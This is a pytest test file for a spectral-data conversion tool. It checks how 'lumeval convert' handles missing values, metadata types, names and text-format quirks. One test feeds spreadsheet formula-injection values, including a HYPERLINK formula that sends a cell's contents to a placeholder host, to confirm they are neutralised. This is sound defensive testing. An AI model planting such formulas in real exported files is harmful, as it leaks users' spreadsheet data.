"""`lumeval convert` on archives a review found it mishandled (each case fails on 8f73ab8).

Before: a Parquet archive with a ``SpectralQuantity`` column stopped the conversion to TM-27
with an internal error (exit 3); a null, NaN or infinite value went into CSV or TM-27 as "nan"
(which no lumeval reader takes) and stopped JSON with an internal error; a text file's stray
``0,0`` row became a Parquet column "0" that every archive reader then refused; and a
``duration`` metadata column made every reader refuse the archive (Arrow has no min/max kernel
for durations, and its absence was taken for an out-of-range value). Behaviour checks: exit
codes, messages, the files written or not, and the values read back.
"""

from __future__ import annotations

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from lumeval.spectra.read import read_spectra

from .conftest import assert_clean_error, run_cli_in_process

WL = np.arange(380.0, 781.0, 5.0)


def _archive(path, n=2, **extra):
    v = np.exp(-(((WL - 600) / 120.0) ** 2)) + 0.5 * np.exp(-(((WL - 450) / 15.0) ** 2))
    cols = {"name": [f"s{i}" for i in range(n)], **extra}
    cols.update({str(int(w)): [float(x) * (1 + 0.01 * i) for i in range(n)] for w, x in zip(WL, v)})
    pq.write_table(pa.table(cols), path)
    return path


def test_an_archive_with_a_spectral_quantity_column_converts_to_tm27(tmp_path, capsys):
    src = _archive(tmp_path / "a.parquet", n=1, SpectralQuantity=["relative"])
    out = tmp_path / "a.xml"
    code, _, err = run_cli_in_process(["convert", src, out], capsys)
    assert code == 0, err
    back = read_spectra(out)
    np.testing.assert_array_equal(back.values, read_spectra(src).values)  # written exactly


@pytest.mark.parametrize("bad, words", [(None, "missing (null or NaN)"), (float("nan"), "missing (null or NaN)"),
                                        (float("inf"), "infinite (inf)")])
@pytest.mark.parametrize("suffix", [".json", ".csv", ".xml", ".parquet"])
def test_a_missing_or_infinite_value_is_refused_naming_the_row_and_wavelength(tmp_path, capsys, bad, words, suffix):
    src = _archive(tmp_path / "a.parquet", n=2)
    t = pq.read_table(src)
    col = t.column("395").to_pylist()
    col[1] = bad
    pq.write_table(t.set_column(t.schema.get_field_index("395"), "395", pa.array(col, pa.float64())), src)
    out = tmp_path / ("out" + suffix)
    code, _, err = run_cli_in_process(["convert", src, out, *(["--column", "s1"] if suffix == ".xml" else [])], capsys)
    assert_clean_error(code, err, "a.parquet#row 2", f"the value at 395 nm is {words}")
    assert not out.exists()


def test_a_row_at_0_nm_is_refused_for_an_archive_and_kept_in_csv(tmp_path, capsys):
    src = tmp_path / "stray.csv"
    src.write_text("wavelength (nm),lamp\n0,0\n" + "".join(f"{w:g},{0.5 + w / 1e4:.4f}\n" for w in WL), encoding="utf-8")
    out = tmp_path / "stray.parquet"
    code, _, err = run_cli_in_process(["convert", src, out], capsys)
    assert_clean_error(code, err, "stray.csv", "row at 0 nm", "convert to CSV or JSON")
    assert not out.exists()
    code, _, err = run_cli_in_process(["convert", src, tmp_path / "copy.csv"], capsys)
    assert code == 0, err
    assert read_spectra(tmp_path / "copy.csv").wavelengths_nm[0] == 0.0


def test_a_duration_metadata_column_is_read(tmp_path, capsys):
    src = _archive(tmp_path / "d.parquet", n=2, exposure=pa.array([1500, 2000], pa.duration("ms")))
    code, out, err = run_cli_in_process(["convert", src, tmp_path / "d.json"], capsys)
    assert code == 0, err
    assert [m["exposure"] for m in read_spectra(tmp_path / "d.json").metadata] == ["0:00:01.500000", "0:00:02"]
    # a duration beyond what Python holds (10^15 s > 999,999,999 days) is still refused, naming its row
    big = _archive(tmp_path / "big.parquet", n=2, exposure=pa.array([5, 10**15], pa.duration("s")))
    code, _, err = run_cli_in_process(["inspect", big], capsys)
    assert_clean_error(code, err, "row 2", "'exposure' column holds a duration that cannot be shown")


def test_csv_header_lines_carry_no_spreadsheet_formula(tmp_path, capsys):
    """A spreadsheet splits a converted CSV's ``# key: value`` lines into cells at their commas;
    a cell that starts with = + - @ (also after spaces or an opening quote) runs as a formula
    (OWASP CSV injection). Such pieces get a ' (and a note says so); plain numbers (-5) stay."""
    import csv

    from lumeval.render.safe import FORMULA_START

    src = _archive(tmp_path / "m.parquet", n=1, Operator=['Jane,=HYPERLINK("http://x.invalid/?"&A1,"click")'],
                   offsets=["1,-5,+2.5e3"], note=['a, "=1+2"'], **{"x,=1+2": ["v"], "y, @SUM(A1)": ["w"]})
    out = tmp_path / "m.csv"
    code, _, err = run_cli_in_process(["convert", src, out], capsys)
    assert code == 0, err
    assert "with a ' before a piece after a comma that a spreadsheet would run as a formula" in " ".join(err.split())
    header = [line for line in out.read_text(encoding="utf-8").splitlines() if line.startswith("#")]
    assert len(header) == 6 and header[0] == "# lumeval.scale: unknown"
    for cells in csv.reader(header):
        for cell in cells[1:]:
            assert not cell.lstrip(" ").startswith(FORMULA_START) or cell.strip() in ("-5", "+2.5e3"), (cells, cell)
    assert "# offsets: 1,-5,+2.5e3" in header  # numbers are no formulas: kept as they were


def test_a_float_metadata_value_that_is_not_finite_is_no_value(tmp_path, capsys):
    """A metadata column's NaN or inf (which no text or JSON number holds) is read as no value,
    like a null: it was written as the text "None" into CSV, TM-27 and JSON, so Parquet -> JSON
    -> Parquet turned a missing value into the text "None"."""
    src = _archive(tmp_path / "f.parquet", n=3, temperature_C=[25.0, float("nan"), float("inf")])
    code, _, err = run_cli_in_process(["convert", src, tmp_path / "f.json"], capsys)
    assert code == 0, err
    assert [m.get("temperature_C") for m in read_spectra(tmp_path / "f.json").metadata] == ["25.0", None, None]
    code, _, err = run_cli_in_process(["convert", tmp_path / "f.json", tmp_path / "back.parquet"], capsys)
    assert code == 0, err
    assert pq.read_table(tmp_path / "back.parquet").column("temperature_C").to_pylist() == ["25.0", None, None]


def test_column_chooses_among_repeated_names_as_inspect_shows_them(tmp_path, capsys):
    """Spectra named x, x, "x (2)": every command shows them as x, "x (2)", "x (2) (2)";
    ``--column`` takes those names, so each spectrum can be chosen (it took the first of the two
    x and could not reach the second; "x (2)" gave the third)."""
    src = _archive(tmp_path / "d.parquet", n=3)
    t = pq.read_table(src)
    pq.write_table(t.set_column(0, "name", pa.array(["x", "x", "x (2)"])), src)
    whole = read_spectra(src)
    for k, shown in enumerate(["x", "x (2)", "x (2) (2)"]):
        out = tmp_path / f"{k}.json"
        code, _, err = run_cli_in_process(["convert", src, out, "--column", shown], capsys)
        assert code == 0, err
        one = read_spectra(out)
        assert one.names == (shown,)
        np.testing.assert_array_equal(one.values[0], whole.values[k])


def test_an_archives_scale_stays_unknown_through_a_text_format(tmp_path, capsys):
    """An archive without a lumeval.scale column is of unknown scale; a metadata column named
    ``unit`` is the file's text. Converted to CSV, its "# unit: W/(m² nm)" line made the copy
    absolute (illuminance reported in lux); JSON kept it unknown. Now the scale is written as it
    was read, and JSON -> Parquet adds no scale column for an unknown scale."""
    src = _archive(tmp_path / "u.parquet", n=1, unit=["W/(m² nm)"])
    assert read_spectra(src).metadata[0]["lumeval.scale"] == "unknown"
    for suffix in (".csv", ".json"):
        out = tmp_path / ("u" + suffix)
        code, _, err = run_cli_in_process(["convert", src, out], capsys)
        assert code == 0, err
        back = read_spectra(out)
        assert back.metadata[0]["lumeval.scale"] == "unknown" and back.metadata[0]["unit"] == "W/(m² nm)"
    code, _, err = run_cli_in_process(["convert", tmp_path / "u.json", tmp_path / "back.parquet"], capsys)
    assert code == 0, err
    assert pq.read_table(tmp_path / "back.parquet").schema.names[:2] == ["name", "unit"]


def test_json_output_leaves_out_how_the_input_was_read(tmp_path, capsys):
    """A CSV with wavelengths in µm is read in nm; its JSON copy kept "lumeval.wavelength_unit":
    "µm" beside wavelengths in nm (every other writer leaves the keys describing how a file was
    read out). Read back, the copy's wavelengths and unit are nm."""
    wl = np.arange(380, 781, 5)
    src = tmp_path / "um.csv"
    src.write_text("wavelength (um),lamp\n" + "".join(f"{int(w) / 1000!r},{0.5 + int(w) / 1e4!r}\n" for w in wl), encoding="utf-8")
    out = tmp_path / "um.json"
    code, _, err = run_cli_in_process(["convert", src, out], capsys)
    assert code == 0, err
    assert "µm" not in out.read_text(encoding="utf-8") and "wavelength_unit" not in out.read_text(encoding="utf-8")
    back = read_spectra(out)
    np.testing.assert_allclose(back.wavelengths_nm, wl, rtol=0, atol=1e-9)  # µm -> nm by a float product
    assert back.metadata[0]["lumeval.wavelength_unit"] == "nm"


def test_the_formula_note_is_not_given_for_line_breaks_alone(tmp_path, capsys):
    """A metadata key holding a line break (written as a space) is said to be written without
    control characters, and nothing is said of formulas: the formula note counted it (its check
    compared the guarded key with the value lines kept apart, found by re-reading the change)."""
    import json

    src = tmp_path / "k.json"
    src.write_text(json.dumps({"format": "lumeval.spectra", "schema_version": 1, "wavelengths_nm": WL.tolist(),
                               "spectra": [{"name": "a", "metadata": {"two\nline key": "v", "k": "line1\nline2"},
                                            "values": (1.0 + WL / 1000).tolist()}]}), encoding="utf-8")
    code, _, err = run_cli_in_process(["convert", src, tmp_path / "k.csv"], capsys)
    assert code == 0, err
    said = " ".join(err.split())
    assert "1 metadata value(s) written without control characters" in said and "run as a formula" not in said


def test_a_tsv_output_is_tab_separated_and_reads_back_exactly(tmp_path, capsys):
    """``convert`` to a ``.tsv`` file writes tabs between the cells (it wrote commas: a
    spreadsheet or any TSV reader saw one cell a line). Checked with Python's csv module (an
    outside reader) in its tab dialect: every data row splits into the wavelength and one cell
    per spectrum, names holding a comma or a quote come back whole, and lumeval reads the
    file back to the same bits. A piece of a metadata line after a tab that a spreadsheet would
    run as a formula gets its ' (the cells of a TSV line end at tabs, not commas)."""
    import csv

    src = tmp_path / "in.csv"
    src.write_text('# operator: Jane\t=HYPERLINK("x")\n# site: a, =b\nwavelength (nm),"warm, 1","say ""hi""",cool\n'
                   + "".join(f"{w:g},{0.5 + w / 1e4!r},{0.25},{1 + w / 1e3!r}\n" for w in WL.tolist()), encoding="utf-8")
    out = tmp_path / "out.tsv"
    code, _, err = run_cli_in_process(["convert", src, out], capsys)
    assert code == 0, err
    text = out.read_text(encoding="utf-8")
    rows = [r for r in csv.reader(text.splitlines(), delimiter="\t") if r and not r[0].startswith("#")]
    assert rows[0] == ["wavelength (nm)", "warm, 1", 'say "hi"', "cool"]
    assert all(len(r) == 4 for r in rows[1:]) and len(rows) == 1 + WL.size
    data = [line for line in text.splitlines() if line[:1].isdigit()]
    assert len(data) == WL.size and not any("," in line for line in data)  # data rows: tabs only
    assert "# operator: Jane\t'=HYPERLINK(\"x\")" in text and "# site: a, =b" in text  # commas split no cell here
    assert "after a tab" in err
    back, orig = read_spectra(out), read_spectra(src)
    assert back.names == orig.names
    np.testing.assert_array_equal(back.values, orig.values)
    np.testing.assert_array_equal(back.wavelengths_nm, orig.wavelengths_nm)
    # and a .csv output keeps its commas
    code, _, err = run_cli_in_process(["convert", out, tmp_path / "again.csv"], capsys)
    assert code == 0, err
    assert (tmp_path / "again.csv").read_text(encoding="utf-8").splitlines()[-1].count(",") == 3


@pytest.mark.parametrize("suffix", [".csv", ".tsv", ".xml"])
def test_a_name_with_spaces_at_its_ends_is_noted_where_it_reads_back_without_them(tmp_path, capsys, suffix):
    """A name such as " lamp A " (a Parquet archive or JSON keeps it) is written whole to CSV,
    TSV and TM-27, whose readers strip a cell or an element: the name reads back as "lamp A",
    and convert now says so (it said nothing). JSON keeps it and says nothing."""
    src = _archive(tmp_path / "a.parquet", n=1)
    t = pq.read_table(src)
    pq.write_table(t.set_column(t.schema.get_field_index("name"), "name", pa.array([" lamp A "])), src)
    out = tmp_path / ("out" + suffix)
    code, _, err = run_cli_in_process(["convert", src, out], capsys)
    assert code == 0, err
    assert read_spectra(out).names == ("lamp A",)
    assert 'read back without the spaces at their ends: " lamp A "' in err
    code, _, err = run_cli_in_process(["convert", src, tmp_path / "out.json"], capsys)
    assert code == 0 and "note" not in err
    assert read_spectra(tmp_path / "out.json").names == (" lamp A ",)


def test_a_metadata_value_with_a_unicode_line_separator_survives_tm27(tmp_path, capsys):
    """TM-27's Comments lines are cut at line ends only: a value holding U+2028 (LINE
    SEPARATOR) or U+0085 (NEXT LINE), which XML 1.0 allows in text, was cut there by the
    reader (str.splitlines), its tail read as a key of its own ("b: c" set b = c)."""
    src = _archive(tmp_path / "a.parquet", n=1, note=["a\u2028b: c\u0085d"])
    out = tmp_path / "a.xml"
    code, _, err = run_cli_in_process(["convert", src, out], capsys)
    assert code == 0, err
    meta = read_spectra(out).metadata[0]
    assert meta["note"] == "a\u2028b: c\u0085d" and "b" not in meta


def test_a_time_of_day_in_nanoseconds_keeps_its_nanoseconds(tmp_path, capsys):
    """A metadata column of Arrow type time64[ns] (a station's clock) read as a spectrum's
    metadata: Python's datetime.time holds microseconds, and 12:34:56.123456789 was shown
    and converted as 12:34:56.123456; now its text to the nanosecond (Arrow's own cast), the
    same in JSON and CSV outputs, while a microsecond time keeps Python's form."""
    ns = 45296123456789  # 12:34:56.123456789 in nanoseconds after midnight
    src = _archive(tmp_path / "a.parquet", n=1, clock=pa.array([ns], pa.time64("ns")),
                   clock_us=pa.array([ns // 1000], pa.time64("us")))
    meta = read_spectra(src).metadata[0]
    assert meta["clock"] == "12:34:56.123456789" and meta["clock_us"] == "12:34:56.123456"
    for suffix in (".json", ".csv"):
        out = tmp_path / ("out" + suffix)
        code, _, err = run_cli_in_process(["convert", src, out], capsys)
        assert code == 0, err
        assert read_spectra(out).metadata[0]["clock"] == "12:34:56.123456789"


@pytest.mark.parametrize("suffix, value", [(".tsv", 'a\t"b'), (".csv", 'a,"b'), (".csv", 'a, "b')])
def test_a_quote_after_a_separator_in_a_metadata_line_does_not_swallow_the_file(tmp_path, capsys, suffix, value):
    """A metadata value whose piece after a separator starts with a quote: Python's csv module
    (an outside reader, on the file object) took it for a quoted cell and read on to the end of
    the file, two rows in all. Now such a piece gets a ' as a formula start does, with the
    note, and the reader sees the metadata lines, the header and one row per wavelength."""
    import csv

    src = _archive(tmp_path / "a.parquet", n=2, note=[value, value])
    out = tmp_path / ("out" + suffix)
    code, _, err = run_cli_in_process(["convert", src, out], capsys)
    assert code == 0, err
    with open(out, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f, delimiter="\t" if suffix == ".tsv" else ","))
    assert len(rows) == sum(1 for r in rows if r and r[0].startswith("#")) + 1 + WL.size
    assert rows[-1][0] == "780.0" and len(rows[-1]) == 3
    assert "quoted cell" in err
    np.testing.assert_array_equal(read_spectra(out).values, read_spectra(src).values)


@pytest.mark.parametrize("suffix", [".csv", ".tsv", ".xml"])
def test_spaces_at_the_ends_of_a_line_of_a_metadata_value_are_noted(tmp_path, capsys, suffix):
    """A value of several lines, one of which starts with a space ("a\\n b"): the readers strip
    each line, so it reads back "a\\nb"; the note on spaces now looks at every line (it looked
    at the whole value only, and said nothing)."""
    src = _archive(tmp_path / "a.parquet", n=1, note=["a\n b"])
    out = tmp_path / ("out" + suffix)
    code, _, err = run_cli_in_process(["convert", src, out], capsys)
    assert code == 0, err
    assert read_spectra(out).metadata[0]["note"] == "a\nb"
    assert 'read back otherwise' in err and '"note"' in err


def test_tm27_metadata_with_carriage_returns_and_broken_keys_reads_back_as_noted(tmp_path, capsys):
    """TM-27 Comments lines: a lone carriage return in a value ("a\\rb: c") was written as it
    was, and the XML parser ended a line there: "b" became a key of its own; a key holding a
    line break ("x\\ny") was read back as a comment and a key "y". Now the CR is written as a
    line break (the value reads back "a\\nb: c") and the key's break as a space ("x y"), with
    the note saying so."""
    src = _archive(tmp_path / "a.parquet", n=1, note=["a\rb: c"], **{"x\ny": ["v"]})
    out = tmp_path / "a.xml"
    code, _, err = run_cli_in_process(["convert", src, out], capsys)
    assert code == 0, err
    meta = read_spectra(out).metadata[0]
    assert meta["note"] == "a\nb: c" and "b" not in meta
    assert meta["x y"] == "v" and "y" not in meta
    assert "a line break in a key as a space, a carriage return as a line break" in err


def test_times_in_nanoseconds_read_alike_in_lists_and_in_lot_outputs(tmp_path, capsys):
    """time64[ns] inside a list keeps its nanoseconds as a top-level one does; a lot's
    per-sample CSV and JSON show the same text as inspect and convert (they showed
    12:34:56.123456)."""
    ns = 45296123456789
    src = _archive(tmp_path / "a.parquet", n=2, clock=pa.array([ns, ns], pa.time64("ns")),
                   clocks=pa.array([[ns, None], None], pa.list_(pa.time64("ns"))))
    meta = read_spectra(src).metadata[0]
    assert meta["clock"] == "12:34:56.123456789" and "12:34:56.123456789" in meta["clocks"]
    code, _, err = run_cli_in_process(["lot", src, "--samples-csv", tmp_path / "s.csv", "--json", tmp_path / "l.json",
                                       "--quiet"], capsys)
    assert code == 0, err
    for f in ("s.csv", "l.json"):
        text = (tmp_path / f).read_text(encoding="utf-8")
        assert text.count("12:34:56.123456789") >= 2 and "12:34:56.123456," not in text and '12:34:56.123456"' not in text


def test_a_long_name_beside_another_description_survives_tm27(tmp_path, capsys):
    """A spectrum whose Description metadata differs from its name has its name written as
    lumeval's own attribute; the reader cut that attribute at 200 characters (a 300-character
    name came back cut, with no note). The Description element was never cut, nor is the name now."""
    name = "lamp " + "x" * 295
    src = _archive(tmp_path / "a.parquet", n=1, Description=["a bench lamp"])
    t = pq.read_table(src)
    pq.write_table(t.set_column(t.schema.get_field_index("name"), "name", pa.array([name])), src)
    out = tmp_path / "a.xml"
    code, _, err = run_cli_in_process(["convert", src, out], capsys)
    assert code == 0, err
    back = read_spectra(out)
    assert back.names == (name,) and back.metadata[0]["Description"] == "a bench lamp"
